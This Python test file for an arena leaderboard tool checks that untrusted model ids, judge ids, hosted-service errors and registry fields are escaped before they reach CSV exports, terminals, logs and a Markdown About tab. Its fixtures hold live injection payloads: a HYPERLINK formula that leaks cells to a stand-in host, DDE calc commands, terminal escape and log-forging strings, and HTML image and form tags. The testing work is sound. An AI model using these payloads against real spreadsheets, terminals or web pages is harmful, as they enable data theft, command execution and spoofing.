"""A hunt for content injection: text one party writes that another party's screen, file or
tool renders as something else than text.

The sources: vote rows read back from a dataset someone else edited (model ids, judge ids,
arena ids: any string), a hosted model's answers and errors, a registry entry a model's
author sends. The sinks: the CLI's tables and log lines in a researcher's terminal, the CSV
a researcher opens in a spreadsheet, the Space's log, the About tab's Markdown. Each test is a defect found by trying it, and fails without its fix; the vote
rows themselves stay as written (escaping belongs where they are shown).
"""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

from arena_core.backends.base import BackendError
from arena_core.backends.hosted import translate_error
from arena_core.cli import main

ROOT = Path(__file__).resolve().parent.parent
#: An id that recolours a terminal, and one that breaks a line to forge the next one.
RED = "z\x1b[31mRED"
FORGED = "w\nERROR arena_core: forged line"
#: Cells a spreadsheet runs as formulas (OWASP's list: = + - @, tab, carriage return).
FORMULAS = ('=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"x")', "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1")  # fmt: skip


def row(k, a, b, vote, **extra):
    return {"schema_version": 3, "vote_id": f"00000000-0000-4000-8000-{k:012d}",
            "ts": f"2026-10-01T00:{k // 60:02d}:{k % 60:02d}.000Z", "arena": "speech",
            "model_a": a, "model_b": b, "vote": vote, "prompt_id": f"p{k % 8}",
            "prompt": f"text {k}", "category": "en", "voter": f"v{k}", "voter_kind": "human",
            "flags": []} | extra  # fmt: skip


def write(path, rows):
    path.write_text("".join(json.dumps(r) + "\n" for r in rows))
    return path


def round_robin(models, rounds: int, start: int = 0, **extra) -> list[dict]:
    """Every pair of ``models`` meets ``rounds`` times, each winning as often as it loses."""
    rows, k = [], start
    for _ in range(rounds):
        for i, a in enumerate(models):
            for b in models[i + 1 :]:
                rows.append(row(k, a, b, "ab"[k % 2], **extra))
                k += 1
    return rows


def printable(text: str) -> bool:
    return all(ch.isprintable() or ch == "\n" for ch in text)


def cli(*args) -> subprocess.CompletedProcess:
    """The command in a fresh process, as a researcher runs it (its own logging set-up)."""
    env = {**os.environ, "PYTHONPATH": str(ROOT), "HF_HUB_OFFLINE": "1",
           "HF_HUB_DISABLE_TELEMETRY": "1"}  # fmt: skip
    return subprocess.run([sys.executable, "-m", "arena_core", *args], capture_output=True,
                          text=True, env=env, cwd=ROOT, timeout=120)  # fmt: skip


def test_the_board_csv_never_starts_a_cell_with_a_spreadsheet_formula(tmp_path, capsys):
    """Whoever edits a vote dataset (a fork, a FastChat export) names the models: an id like
    ``=HYPERLINK("http://evil/?leak="&A1,"x")`` went into ``leaderboard --format csv`` as it
    is, and the researcher who opened the board in a spreadsheet ran it (a link that sends
    the sheet's cells away, or a DDE command). Text cells that a spreadsheet would read as a
    formula now start with a quote (OWASP's CSV injection advice); numbers, negative ones
    included, stay numbers."""
    models = ["x", *FORMULAS]
    beaten = [row(900 + k, "p", "q", "a") for k in range(200)]  # q's CI bound: negative
    log = write(tmp_path / "votes.jsonl", round_robin(models, 2) + beaten)
    assert main(["leaderboard", "--votes", str(log), "--arena", "speech", "--format", "csv"]) == 0
    out = capsys.readouterr().out
    # A carriage return inside a cell: csv leaves it unquoted (the lines end in "\n"), and
    # every spreadsheet starts a row there, whose first cell is then "=1+1".
    assert "\r" not in out
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == len(models) + 2
    for r in rows:
        for column in ("model", "model_id"):
            assert not r[column].startswith(("=", "+", "-", "@", "\t", "\r")), r[column]
    kept = ["x", "p", "q", *("'" + f for f in FORMULAS[:-1]), "\\r=1+1"]  # the ids, still readable
    assert sorted(r["model_id"] for r in rows) == sorted(kept)
    negative = [r["ci_low"] for r in rows if r["ci_low"].startswith("-")]
    assert negative and float(negative[0]) < 0  # numbers are not text: left as they are


def test_the_board_table_prints_ids_in_its_warnings_escaped(tmp_path, capsys):
    """The ``leaderboard`` table prints a name a terminal would garble quoted (session 31),
    but its warnings named the models by their raw ids: an id from an edited dataset with an
    escape sequence recoloured (or, with cursor moves, rewrote) the researcher's terminal,
    and one with a newline printed a line of its own choosing under the board."""
    # Two groups that never met: the warning lists every id of both.
    votes = round_robin(["x", RED], 3) + round_robin(["y", FORGED], 3, start=100)
    log = write(tmp_path / "votes.jsonl", votes)
    assert main(["leaderboard", "--votes", str(log), "--arena", "speech"]) == 0
    text = capsys.readouterr().out
    assert printable(text), repr(text)
    warning = next(line for line in text.splitlines() if line.startswith("warning:"))
    assert "never met" in warning and "\\u001b[31mRED" in warning and "\\nERROR" in warning
    assert not any(line.startswith("ERROR") for line in text.splitlines())


def test_the_cli_error_and_log_lines_carry_no_control_characters(tmp_path):
    """A researcher's stderr holds one record per line ("error: ...", "WARNING ..."). Values
    of the votes went into both raw: the refusal of an unknown ``--arena`` listed the arenas
    the votes hold, and ``--format csv`` logs the board's warnings, which name the models; an
    arena or model id with a newline forged a record of its own ("ERROR ... forged line"),
    one with an escape sequence recoloured the terminal."""
    votes = round_robin(["x", RED], 3) + round_robin(["y", FORGED], 3, start=100)
    votes += [row(500, "x", "y", "a", arena="other\nERROR arena_core: forged\x1b[2K")]
    log = write(tmp_path / "votes.jsonl", votes)
    refused = cli("leaderboard", "--votes", str(log), "--arena", "nope")
    assert refused.returncode == 2
    assert refused.stderr.count("\n") == 1 and refused.stderr.startswith("error: no votes of")
    assert printable(refused.stderr) and "forged\\u001b[2K" in refused.stderr, refused.stderr
    logged = cli("leaderboard", "--votes", str(log), "--arena", "speech", "--format", "csv")
    assert logged.returncode == 0, logged.stderr
    lines = logged.stderr.splitlines()
    assert lines and all(line.startswith("WARNING arena_core") for line in lines), lines
    assert printable(logged.stderr) and "\\u001b[31mRED" in logged.stderr


def test_the_complementarity_table_prints_ids_escaped(tmp_path, capsys):
    """``analyze complementarity`` names the models by the votes' ids (it reads no registry):
    an id with an escape sequence recoloured the terminal, one with a newline split its row
    and printed a line of the editor's choosing inside the table."""
    models = ["x", "y", RED, FORGED]
    votes = [r for k in range(8) for r in round_robin(models, 1, start=100 * k)
             for r in [r | {"prompt_id": f"p{k}"}]]  # fmt: skip
    log = write(tmp_path / "votes.jsonl", votes)
    argv = ["analyze", "complementarity", "--votes", str(log), "--arena", "speech",
            "--min-overlap", "2", "--rounds", "19"]  # fmt: skip
    assert main(argv) == 0
    text = capsys.readouterr().out
    assert printable(text), repr(text)
    table = text.split("\n\n")[0].splitlines()[1:]  # the header, then one line per pair
    assert len(table) == 1 + 6 and json.dumps(RED) in text and json.dumps(FORGED) in text


REGISTRY = """
arenas:
  - id: speech
    title: Speech
    modality: audio
    prompts: [{id: p0, text: "Hello there."}]
    models:
      - {id: x, name: X model, backend: {type: espeak, voice: en-us}}
      - {id: y, name: Y model, backend: {type: espeak, voice: en-us}}
"""


def test_the_judges_table_prints_judge_ids_escaped(tmp_path, capsys):
    """``judges`` reports every judge the votes name, by the id in the rows (a judge need not
    be in the registry): an id with a newline split the judge's row in two, the second a
    line of the editor's choosing, and an escape sequence recoloured the terminal."""
    (tmp_path / "registry.yaml").write_text(REGISTRY)
    judge = "j\x1b[32mGREEN\nFAKE | 99"
    votes = round_robin(["x", "y"], 20)
    votes += round_robin(["x", "y"], 10, start=100, voter_kind="judge", judge=judge,
                         voter="judge:" + judge)  # fmt: skip
    log = write(tmp_path / "votes.jsonl", votes)
    argv = ["judges", "--votes", str(log), "--arena", "speech",
            "--registry", str(tmp_path / "registry.yaml")]  # fmt: skip
    assert main(argv) == 0
    text = capsys.readouterr().out
    assert printable(text), repr(text)
    table = text.split("\n\n")[0].splitlines()
    assert len(table) == 3 and json.dumps(judge) in table[2]  # title, header, the judge


class AppError(Exception):
    """gradio_client's error for a Space that reported one (matched by its class name)."""

    def __init__(self, message: str):
        super().__init__(message)
        self.message = message


def test_a_hosted_services_error_reaches_the_log_without_control_characters(caplog):
    """A hosted Space is not trusted, and the message of its error goes into the model's
    failure reason, which the Space's log prints (and the pool's status keeps). Whitespace
    was collapsed into one line, but an escape sequence went through: a Space answering
    ``\\x1b[1A\\x1b[2K`` erased the operator's previous log line in a terminal, or recoloured
    the rest."""
    exc = AppError("boom\x1b[1A\x1b[2K\x1b[31mall votes deleted\x07\x00")
    error = translate_error("org/m", exc, timeout=30)
    assert isinstance(error, BackendError)
    assert str(error).isprintable() and error.reason.isprintable(), repr(str(error))
    assert "all votes deleted" in error.reason  # the message is kept, its controls escaped
    assert "\\u001b[1A" in error.reason


#: A registry entry as a model author might send it in a pull request: each field renders as
#: text on the About tab, or it pulls an image from anywhere, or shows a form, for every visitor.
AUTHORED = """
arenas:
  - id: speech
    title: Speech
    modality: audio
    prompts: [{id: p0, text: "Hello there."}]
    models:
      - id: x
        name: "X ![n](http://127.0.0.1:9/name.png) <img src='http://127.0.0.1:9/tag.png'>"
        url: "https://example.org/x)![t](http://127.0.0.1:9/url.png"
        backend: {type: espeak, voice: en-us}
      - id: y
        name: Y model
        license: "MIT <form action='http://127.0.0.1:9/'><input name=password></form>"
        params: "[82M](http://127.0.0.1:9/params) | extra cell"
        backend: {type: espeak, voice: en-us}
"""


def test_the_about_tab_shows_registry_fields_as_text(tmp_path, browser):
    """The About tab lists every model as Markdown, its name, link, licence and size put in as
    they are written. The board's HTML escapes a name ("data, never markup"), but here a name
    holding ``![](http://...)`` or ``<img src=...>`` showed an image fetched from anywhere for
    every visitor (Gradio's sanitizer keeps images and forms), a licence showed a form, and
    a URL the loader accepts (http, a host, no space) closed the Markdown link at its first
    ``)`` and went on as an image of its own."""
    import gradio as gr
    from conftest import launch_on_free_port

    from arena_core.leaderboard import BoardParams
    from arena_core.page import ui_text
    from arena_core.registry import load_registry

    (tmp_path / "registry.yaml").write_text(AUTHORED)
    registry = load_registry(tmp_path / "registry.yaml")
    with gr.Blocks() as demo:
        gr.Markdown(ui_text.about(registry, BoardParams()), elem_id="about")  # as app.py does
    page = browser.new_page()
    try:
        page.goto(launch_on_free_port(demo))
        about = page.locator("#about")
        about.get_by_text("Models and licences").wait_for()
        assert about.locator("img, form, input").count() == 0
        links = about.locator("a").evaluate_all("els => els.map(a => a.href)")
        assert [u for u in links if "127.0.0.1:9" in u or "example.org" in u] == [
            "https://example.org/x%29!%5Bt%5D%28http://127.0.0.1:9/url.png"
        ]  # the registry's link, whole, and no other
        text = about.inner_text()
        assert "X ![n](http://127.0.0.1:9/name.png) <img src='http://127.0.0.1:9/tag.png'>" in text
        assert "[82M](http://127.0.0.1:9/params) | extra cell" in text and "<form action=" in text
    finally:
        page.close()
        demo.close()
